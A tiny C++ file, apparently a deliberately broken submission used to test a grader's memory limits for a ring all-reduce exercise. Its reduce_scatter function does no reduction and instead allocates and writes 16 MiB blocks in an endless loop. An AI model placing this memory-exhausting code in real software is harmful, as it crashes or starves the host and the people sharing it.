// Allocates and touches memory endlessly.
#include <cstring>
#include <new>

#include "02_ring_all_reduce/1_reduce_scatter/reduce_scatter.hpp"

namespace lockstep::ring {

void reduce_scatter(std::span<float> values, const Neighbours& place) {
  while (true) std::memset(::operator new(1 << 24), 1, 1 << 24);
}

}  // namespace lockstep::ring
